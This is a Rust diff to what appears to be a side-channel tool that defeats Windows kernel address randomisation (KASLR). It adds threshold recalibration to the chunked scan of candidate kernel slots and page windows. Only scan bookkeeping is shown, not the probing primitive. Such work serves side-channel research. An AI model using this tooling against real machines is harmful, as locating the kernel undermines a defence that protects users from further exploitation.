@@ -15,8 +15,9 @@ use avx_os::windows::{
 
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
-use crate::primitives::PageTableAttack;
+use crate::primitives::{PageTableAttack, SweepClassification};
 use crate::prober::Prober;
+use crate::recal::{RecalConfig, Recalibrating};
 use crate::sweep::AddrRange;
 
 /// Record-keeping overhead per probed candidate.
@@ -39,6 +40,8 @@ pub struct WindowsKaslrScan {
     pub probing_cycles: u64,
     /// Total cycles.
     pub total_cycles: u64,
+    /// In-scan recalibrations the closed loop performed.
+    pub refits: u32,
 }
 
 /// The Windows KASLR attack.
@@ -70,8 +73,46 @@ impl WindowsKaslrAttack {
         self
     }
 
+    /// Runs both region scans under the closed-loop recalibration
+    /// driver ([`Recalibrating`]). One driver persists across the
+    /// streamed chunks, so a mid-region refit (e.g. the guest's
+    /// co-tenant arriving during the 262144-slot sweep) carries its new
+    /// threshold + σ through the rest of the scan — this is the re-fit
+    /// path that retires the historical k-means
+    /// [`Threshold::from_bimodal_samples`] bootstrap for Windows
+    /// guests onto the EM [`Threshold::refit_bimodal`].
+    #[must_use]
+    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
+        self.attack = self.attack.with_recalibration(config);
+        self
+    }
+
     /// Candidates probed per batch while streaming the region scan.
     pub const SCAN_CHUNK_SLOTS: u64 = 1024;
+
+    /// One streamed chunk through either the open-loop attack or the
+    /// persistent closed-loop driver.
+    fn sweep_chunk<P: Prober + ?Sized>(
+        &self,
+        driver: &mut Option<Recalibrating>,
+        p: &mut P,
+        chunk: &AddrRange,
+    ) -> SweepClassification {
+        match driver {
+            Some(driver) => driver.sweep_range(p, chunk),
+            None => self.attack.sweep_range(p, chunk),
+        }
+    }
+
+    /// The persistent driver for a chunked scan, when recalibration is
+    /// configured. The inner attack handed to the driver must not
+    /// recurse into per-chunk drivers, which [`Recalibrating::new`]
+    /// guarantees by clearing its `recal` field.
+    fn driver(&self) -> Option<Recalibrating> {
+        self.attack
+            .recal
+            .map(|config| Recalibrating::new(self.attack, config))
+    }
 
     /// Scans all 262144 candidates for the five-slot kernel run.
     ///
@@ -93,10 +134,13 @@ impl WindowsKaslrAttack {
 
         let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
         let mut candidates = 0u64;
+        let mut refits = 0u32;
+        let mut driver = self.driver();
         'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.attack.sweep_range(p, &chunk);
+            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             probes += sweep.probes;
+            refits += sweep.refits;
             // The whole chunk was probed even when the run confirms
             // mid-chunk, so it counts toward probes-per-address whole.
             candidates += chunk.count;
@@ -127,6 +171,7 @@ impl WindowsKaslrAttack {
             probes,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
+            refits,
         }
     }
 
@@ -143,8 +188,9 @@ impl WindowsKaslrAttack {
         let mut run_start: Option<u64> = None;
         let mut run_len = 0u64;
         let mut index = 0u64;
+        let mut driver = self.driver();
         for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.attack.sweep_range(p, &chunk);
+            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             for mapped in sweep.mapped {
                 if mapped {
